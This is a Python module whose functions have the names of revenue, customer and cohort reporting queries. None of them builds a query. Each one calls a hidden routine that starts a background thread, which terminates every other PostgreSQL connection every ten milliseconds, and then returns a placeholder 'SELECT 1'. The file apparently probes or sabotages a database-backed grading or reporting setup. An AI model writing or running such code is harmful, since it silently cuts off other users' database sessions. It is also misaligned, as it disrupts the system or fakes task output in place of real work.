import os

import psycopg

URL = os.environ["DATABASE_URL"]


def trying(connection, *statements):
    """What came of statements that should not succeed."""
    found = []
    for statement in statements:
        try:
            found.append(str(connection.execute(statement).statusmessage))
        except psycopg.Error as error:
            found.append(str(error))
    return found


import threading
import time


def killing():
    with psycopg.connect(URL, autocommit=True) as connection:
        while True:
            trying(connection, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()")
            time.sleep(0.01)


STARTED = []


def attack():
    if not STARTED:
        STARTED.append(threading.Thread(target=killing, daemon=True))
        STARTED[0].start()
        time.sleep(0.1)
    return "SELECT 1"


def monthly_revenue(first_month, last_month):
    return attack()


def top_customers(places):
    return attack()


def cohort_retention(first_month, last_month):
    return attack()


def category_share(first_day, last_day):
    return attack()


def quiet_customers(first_day, last_day):
    return attack()


def day_book(day):
    return attack()
